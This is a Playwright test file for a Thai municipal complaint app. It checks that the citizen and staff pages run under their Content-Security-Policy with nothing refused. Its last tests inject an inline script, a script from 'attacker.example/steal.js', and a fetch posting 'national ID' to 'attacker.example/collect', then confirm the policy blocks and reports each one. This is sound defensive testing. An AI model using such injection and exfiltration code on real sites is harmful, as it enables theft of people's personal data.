import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page, Response } from 'playwright-core';
import { GeoPoint } from 'firebase-admin/firestore';
import { addStaff } from '../../scripts/staff-accounts.ts';
import { adminAuth, adminDb } from '../support/admin.ts';
import { cspViolations, desktopPage, launchBrowser, phonePage, provokeCspViolations } from '../support/browser.ts';
import { fileCase } from '../support/cases.ts';
import { nationalId } from '../support/fixtures.ts';
import { HOSTING_ORIGIN, lineUserId } from '../support/stack.ts';

/**
 * The pages under the Content-Security-Policy that the Hosting emulator serves from firebase.json
 * (plus the emulators' local origins in connect-src: scripts/emulator-firebase-config.ts). Each
 * test does what citizens and clerks do and then expects that the policy refused nothing (every other
 * browser test is held to that too: test/support/csp-guard.ts); the last ones prove the policy is
 * really enforced and that a refusal would be seen.
 */
let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

/** The policy the page was served with: a page without one would pass every other check here. */
function servedPolicy(response: Response | null): string {
  const csp = response?.headers()['content-security-policy'];
  expect(csp).toMatch(/default-src 'none'/);
  return csp!;
}

// The smallest valid PNG, so that map tiles load as images instead of failing offline.
const TILE = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');

async function clerkOnCase(caseId: string): Promise<{ page: Page; tiles: string[] }> {
  const email = `csp-${Date.now()}@banmae.go.th`;
  await addStaff(adminAuth, adminDb, { email, role: 'staff', displayName: 'สมศรี นโยบาย', password: 'desk-password-1' });
  const page = await desktopPage(browser);
  const tiles: string[] = [];
  await page.route(/tile\.openstreetmap\.org/, (r) => {
    tiles.push(r.request().url());
    return r.fulfill({ contentType: 'image/png', body: TILE });
  });
  servedPolicy(await page.goto(`${HOSTING_ORIGIN}/admin`));
  await page.getByLabel('อีเมล', { exact: true }).fill(email);
  await page.getByLabel('รหัสผ่าน', { exact: true }).fill('desk-password-1');
  await page.getByRole('button', { name: 'เข้าสู่ระบบ' }).click();
  await page.getByTestId('queue').waitFor();
  await page.getByTestId('queue').locator(`li[data-case-id="${caseId}"]`).click();
  await page.getByTestId('timeline').waitFor();
  return { page, tiles };
}

describe('the pages work under their Content-Security-Policy', () => {
  it('the complaint form starts LIFF, signs in, takes the location and files a case, with nothing refused', async () => {
    const user = lineUserId();
    const page = await phonePage(browser);
    const csp = servedPolicy(await page.goto(`${HOSTING_ORIGIN}/?as=${user}`));
    expect(csp).toContain("frame-ancestors 'none'");
    await page.getByLabel('ชื่อ-นามสกุล').fill('สมหญิง รักถิ่น');
    await page.getByLabel('หมายเลขบัตรประจำตัวประชาชน').fill(nationalId('310060024567'));
    await page.getByLabel('เบอร์โทรศัพท์').fill('0891234567');
    await page.getByRole('radio', { name: 'ร้องเรียน' }).check();
    await page.getByLabel('หมวดหมู่').selectOption('road');
    await page.getByLabel('หัวข้อเรื่อง').fill('ไฟถนนดับ');
    await page.getByLabel('รายละเอียด / เหตุการณ์').fill('ไฟถนนหน้าวัดดับมาสามคืนแล้ว');
    await page.getByRole('button', { name: 'ใช้ตำแหน่งปัจจุบัน' }).click();
    await page.getByTestId('location-text').waitFor();
    await page.getByLabel('ข้าพเจ้าได้อ่านและรับทราบประกาศความเป็นส่วนตัวข้างต้นแล้ว').check();
    await page.getByRole('button', { name: 'ส่งข้อมูลผู้ร้องเรียน' }).click();
    await expect.poll(() => page.getByTestId('tracking-no').textContent(), { timeout: 15_000 }).toMatch(/^BM-\d{4}-\d{5}$/);
    expect(cspViolations(page)).toEqual([]);
    await page.context().close();
  });

  it('the case list and a case page load, poll and show the owner’s details, with nothing refused', async () => {
    const user = lineUserId();
    const c = await fileCase(user, { subject: 'ขอถังขยะเพิ่ม' });
    const page = await phonePage(browser);
    servedPolicy(await page.goto(`${HOSTING_ORIGIN}/cases?as=${user}`));
    await page.getByTestId('case-list').getByText('ขอถังขยะเพิ่ม').waitFor();
    servedPolicy(await page.goto(`${HOSTING_ORIGIN}/cases/${c.id}?as=${user}`));
    await page.getByTestId('timeline').waitFor();
    expect(await page.getByTestId('tracking-no').textContent()).toBe(c.trackingNo);
    await page.getByRole('button', { name: 'แสดงข้อมูลส่วนตัว' }).click();
    await page.getByRole('button', { name: 'แสดงข้อมูลส่วนตัว', pressed: true }).waitFor();
    expect(cspViolations(page)).toEqual([]);
    await page.context().close();
  });

  it('the staff desk signs in, opens a case, calls revealReporter and draws the map with its tiles, with nothing refused', async () => {
    const c = await fileCase(lineUserId(), { hasLocation: true }, { location: { geo: new GeoPoint(18.6253, 98.8917), accuracyM: 25 } });
    const { page, tiles } = await clerkOnCase(c.id);
    await page.getByRole('button', { name: 'แสดงแผนที่' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('เหตุผลในการเปิดดูข้อมูล').selectOption('contact_reporter');
    await dialog.getByRole('button', { name: 'แสดงแผนที่' }).click();
    await page.locator('[data-testid="location-map"] .leaflet-marker-icon').waitFor();
    await expect.poll(() => page.locator('[data-testid="location-map"] img.leaflet-tile-loaded').count()).toBeGreaterThan(0);
    expect(tiles.length).toBeGreaterThan(0);
    expect(cspViolations(page)).toEqual([]);
    await page.context().close();
  });
});

describe('the policy is enforced', () => {
  async function inject(page: Page): Promise<unknown> {
    provokeCspViolations(page);
    return page.evaluate(async () => {
      const inline = document.createElement('script');
      inline.textContent = 'window.injected = "inline"';
      document.head.append(inline);
      const remote = document.createElement('script');
      remote.src = 'https://attacker.example/steal.js';
      document.head.append(remote);
      await fetch('https://attacker.example/collect', { method: 'POST', body: 'national ID' }).catch(() => undefined);
      return (window as unknown as { injected?: string }).injected;
    });
  }

  it('on a citizen page: an injected inline script, a foreign script and a foreign fetch are refused and reported', async () => {
    const page = await phonePage(browser);
    servedPolicy(await page.goto(`${HOSTING_ORIGIN}/?as=${lineUserId()}`));
    await page.getByLabel('ชื่อ-นามสกุล').waitFor();
    expect(await inject(page)).toBeUndefined();
    await expect.poll(() => cspViolations(page).join('\n')).toMatch(/script-src-elem inline/);
    expect(cspViolations(page).join('\n')).toMatch(/script-src-elem https:\/\/attacker\.example\/steal\.js/);
    expect(cspViolations(page).join('\n')).toMatch(/connect-src https:\/\/attacker\.example\/collect/);
    await page.context().close();
  });

  it('on the staff desk: the same injections are refused and reported', async () => {
    const page = await desktopPage(browser);
    servedPolicy(await page.goto(`${HOSTING_ORIGIN}/admin`));
    await page.getByLabel('อีเมล', { exact: true }).waitFor();
    expect(await inject(page)).toBeUndefined();
    await expect.poll(() => cspViolations(page).join('\n')).toMatch(/script-src-elem inline/);
    expect(cspViolations(page).join('\n')).toMatch(/script-src-elem https:\/\/attacker\.example\/steal\.js/);
    expect(cspViolations(page).join('\n')).toMatch(/connect-src https:\/\/attacker\.example\/collect/);
    await page.context().close();
  });
});
